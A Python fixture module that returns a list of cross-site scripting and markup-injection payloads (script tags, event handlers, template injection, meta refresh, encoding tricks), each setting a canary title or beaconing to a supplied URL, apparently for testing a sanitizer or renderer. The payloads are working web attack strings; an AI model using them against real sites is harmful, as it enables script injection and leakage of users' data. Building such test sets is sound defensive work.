"""Texts that want to become markup, scripts or requests; no test is here."""

from __future__ import annotations

CANARY = "document.title='pwned'"


def attacks(url: str) -> list[str]:
    """Each tries to run the canary or to reach the address."""
    run = f"{CANARY};new Image().src='{url}/script'"
    return [
        f"<script>{run}</script>",
        f'"><img src=x onerror="{run}">',
        f'\'><img src=x onerror="{run}">',
        f'<svg/onload="{run}">',
        f"</script><script>{run}</script>",
        f"</style></title></textarea><script>{run}</script>",
        f"</pre></details></svg></main><script>{run}</script>",
        f"--><script>{run}</script><!--<script>",
        f"]]><script>{run}</script>",
        "javascript:alert(1)",
        "[x](javascript:alert(1))",
        f"![x]({url}/markdown)",
        f"{url}/bare",
        f'<a href="data:text/html,<script>{run}</script>" ping="{url}/ping">x</a>',
        f"{{{{constructor.constructor('{run}')()}}}}",
        f"<style>@import '{url}/import';</style>",
        f'<link rel=stylesheet href="{url}/link"><link rel=prefetch href="{url}/prefetch">',
        f'<meta http-equiv="refresh" content="0;url={url}/refresh">',
        f'<base href="{url}/">',
        f'<iframe srcdoc="<script>parent.{CANARY}</script>"></iframe><iframe src="{url}/frame"></iframe>',
        f'<math><mtext></form><form><mglyph><style></math><img src onerror="{run}">',
        f'<img src="{url}/image"><video src="{url}/video" autoplay></video><object data="{url}/object"></object>',
        f'<body background="{url}/background" onload="{run}">',
        f'<form action="{url}/form"><input autofocus onfocus="{run}"></form>',
        f'" style="background:url({url}/style)" onmouseover="{run}',
        f"\u2028<script>{run}</script>\u2029",
        f"\\u003cscript>{run}\\u003c/script>",
        f'&lt;img src=x onerror="{run}"&gt;',
        f"\x00<scr\x00ipt>{run}</script>",
        f"\u202e<script>{run}</script>\u2066\x1b[2J",
        f"\ud800<script>{run}</script>",
        f"+ADw-script+AD4-{run}+ADw-/script+AD4-",
    ]
